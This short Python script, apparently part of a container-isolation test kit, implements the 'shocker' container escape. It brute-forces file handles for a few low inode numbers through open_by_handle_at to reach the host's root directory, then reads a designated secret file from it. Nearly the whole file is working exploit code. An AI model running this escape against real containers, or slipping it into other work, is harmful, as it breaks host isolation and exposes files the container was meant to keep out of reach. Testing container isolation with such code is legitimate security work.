"""Opens the root of the file system by its handle (the "shocker" attack on containers)."""

import ctypes, struct
from kit import *

libc = ctypes.CDLL(None, use_errno=True)
mount = os.open(".", os.O_RDONLY)
for inode in (2, 64, 128, 256):
    for kind, size in ((1, 8), (0x81, 8), (0x4D, 20)):
        handle = struct.pack("=IiQQQ", size, kind, inode, 0, 0)
        fd = libc.open_by_handle_at(mount, ctypes.create_string_buffer(handle), os.O_RDONLY)
        print(inode, kind, fd)
        if fd >= 0:
            attempt(lambda: os.write(1, os.read(os.open(SECRET_FILE.lstrip("/"), os.O_RDONLY, dir_fd=fd), 100)))
